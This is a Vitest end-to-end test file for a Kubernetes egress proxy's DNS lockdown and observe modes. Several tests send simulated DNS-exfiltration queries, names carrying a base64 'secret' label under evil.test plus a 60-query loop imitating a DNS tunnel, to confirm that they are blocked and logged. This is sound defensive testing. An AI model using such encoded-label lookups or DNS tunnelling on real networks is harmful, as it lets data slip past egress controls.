import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { podManifest } from '../../scripts/scenario/stage.ts';
import {
  apply,
  condition,
  eventually,
  inPod,
  kubectl,
  leaveNamespaces,
  makeNamespace,
  makeProxy,
  removeNamespaces,
} from './support/client-pods.ts';

const PROXY = { namespace: 'closed-dns-proxy', name: 'closed' };
/** Enforced; in observe mode; both with dns: ClusterOnly. */
const [CLOSED, WATCHED] = ['closed-dns', 'closed-dns-watched'];
const POD = `${CLOSED}/api`;

const query = readFileSync(new URL('support/dns-query.py', import.meta.url), 'utf8');

/** What a nameserver answers: `<rcode> <records> <extended error>`, or `silent` after three seconds. */
async function ask(pod: string, server: string, name: string, type = 'A', protocol = 'udp'): Promise<string> {
  const asked = await inPod(pod, `python3 - ${server} ${name} ${type} ${protocol} << 'END'\n${query}\nEND`);
  return asked.stdout.trim() || asked.stderr;
}

const nameservers = async (pod: string) =>
  (await inPod(pod, "sed -n 's/^nameserver //p' /etc/resolv.conf")).stdout.trim().split('\n');
const resolves = async (pod: string, name: string) => (await inPod(pod, `getent hosts ${name}`)).code === 0;

/** The audit lines about names of a namespace. */
async function askedNames(namespace: string): Promise<{ target: string; queries: number; pod: string }[]> {
  const lines = await kubectl(`logs -n ${PROXY.namespace} deployment/${PROXY.name} -c agent`);
  return lines
    .split('\n')
    .filter((line) => line.includes('"method":"DNS"'))
    .map((line) => JSON.parse(line))
    .filter((record) => record.namespace === namespace);
}

beforeAll(async () => {
  await makeProxy(PROXY, { dns: 'ClusterOnly', dnsAllow: ['*.example.org'] });
  await removeNamespaces(CLOSED, WATCHED);
  await makeNamespace({ namespace: CLOSED, mode: 'enforce' });
  await makeNamespace({ namespace: WATCHED, mode: 'observe' });
  await kubectl(
    `label namespace ${CLOSED} ${WATCHED} egress.zalando.org/proxy=${PROXY.namespace}.${PROXY.name}`,
  );
  const address = `get -n ${PROXY.namespace} egressproxy/${PROXY.name} -o jsonpath={.status.dnsAddresses[0]}`;
  expect(await eventually(async () => (await kubectl(address)) !== '', true, 120)).toBe(true);
  for (const namespace of [CLOSED, WATCHED]) {
    await kubectl('apply -f -', podManifest(namespace, 'api'));
    await kubectl(`wait -n ${namespace} --for=condition=Ready pod/api --timeout=60s`);
  }
  await apply({
    apiVersion: 'zalando.org/v1',
    kind: 'EgressRuleSet',
    metadata: { name: 'rules', namespace: CLOSED },
    spec: { targets: ['a.example.com:80'] },
  });
  await kubectl(`wait -n ${CLOSED} --for=condition=Programmed egressruleset/rules --timeout=30s`);
});
afterAll(async () => {
  await leaveNamespaces(CLOSED, WATCHED, PROXY.namespace);
});

describe('dns: ClusterOnly', () => {
  test('names of the cluster are resolved as before, in both families and both protocols', async () => {
    for (const name of [
      'kubernetes.default',
      'kube-dns.kube-system.svc',
      'kube-dns.kube-system.svc.cluster.local',
    ]) {
      expect(await resolves(POD, name), name).toBe(true);
    }
    for (const server of await nameservers(POD)) {
      for (const protocol of ['udp', 'tcp']) {
        const answer = await ask(POD, server, 'kubernetes.default.svc.cluster.local', 'A', protocol);
        expect(answer, `${server} ${protocol}`).toMatch(/^NOERROR [1-9]/);
      }
    }
    expect(await nameservers(POD)).toHaveLength(2);
  });

  test('the proxy resolves the names of requests', async () => {
    const call = await inPod(POD, "curl -s -o /dev/null -m 10 -w '%{http_code}' http://a.example.com/");
    expect(call.stdout).toBe('200');
  });

  test.each(['A', 'AAAA', 'TXT', 'NULL', 'CNAME', 'MX'])(
    '%s of an outside name does not exist, and the reason is given',
    async (type) => {
      const [server = ''] = await nameservers(POD);
      const answer = await ask(
        POD,
        server,
        `c2VjcmV0${'a'.repeat(50)}.${type.toLowerCase()}.evil.test`,
        type,
      );
      expect(answer).toMatch(/^NXDOMAIN 0 15 \S+ is outside of the cluster.*HTTPS_PROXY/);
    },
  );

  test('no other nameserver can be reached', async () => {
    const clusterIP = await kubectl('get service kube-dns -n kube-system -o jsonpath={.spec.clusterIP}');
    const dnsPod = await kubectl(
      "get pods -n kube-system -l k8s-app=kube-dns -o jsonpath='{.items[0].status.podIP}'",
    );
    expect(await ask(`${WATCHED}/api`, clusterIP, 'c2VjcmV0.evil.test')).toMatch(/^NOERROR 1/);
    for (const server of [clusterIP, dnsPod, '203.0.113.53', '169.254.20.10']) {
      for (const protocol of ['udp', 'tcp']) {
        expect(await ask(POD, server, 'c2VjcmV0.evil.test', 'A', protocol), `${server} ${protocol}`).toBe(
          'silent',
        );
      }
    }
  });

  test('a policy of the team does not open it again', async () => {
    const open = {
      apiVersion: 'networking.k8s.io/v1',
      kind: 'NetworkPolicy',
      metadata: { name: 'open-dns', namespace: CLOSED },
      spec: { podSelector: {}, policyTypes: ['Egress'], egress: [{ to: [{ namespaceSelector: {} }] }] },
    };
    await kubectl(
      `create rolebinding tenant -n ${CLOSED} --clusterrole=admin --user=closed-dns-tenant --dry-run=client -o yaml | kubectl apply -f -`,
    );
    const asTenant = kubectl('create --as=closed-dns-tenant -f -', JSON.stringify(open));
    await expect(asTenant).rejects.toThrow(/has its DNS closed/);
  });

  test('a name that the operator allows is resolved', async () => {
    const [server = ''] = await nameservers(POD);
    expect(await ask(POD, server, 'a.example.org')).toMatch(/^NOERROR 1/);
  });

  test('a tunnel shows as one target with its queries, by the pod', async () => {
    const many = `for i in $(seq 60); do echo $i.t.tunnel.test; done`;
    await inPod(POD, `for name in $(${many}); do getent ahosts $name > /dev/null; done`, 60);
    const seen = async () =>
      (await askedNames(CLOSED)).some(({ target, pod }) => target === '*.tunnel.test:53' && pod === 'api');
    expect(await eventually(seen, true, 30)).toBe(true);
    const queries = (await askedNames(CLOSED)).filter(({ target }) => target.includes('tunnel.test'));
    expect(queries.reduce((sum, one) => sum + one.queries, 0)).toBeGreaterThanOrEqual(60);
    expect(await condition(CLOSED, 'egressactivity/observed', 'NameserverUsed')).toBe('True NameserverUsed');
  });
});

describe('observe mode', () => {
  test('resolves every name, and says what would not be resolved', async () => {
    expect(await resolves(`${WATCHED}/api`, 'c2VjcmV0.evil.test')).toBe(true);
    const seen = async () =>
      (await askedNames(WATCHED)).some(({ target }) => target === 'c2vjcmv0.evil.test:53');
    expect(await eventually(seen, true, 30)).toBe(true);
  });
});
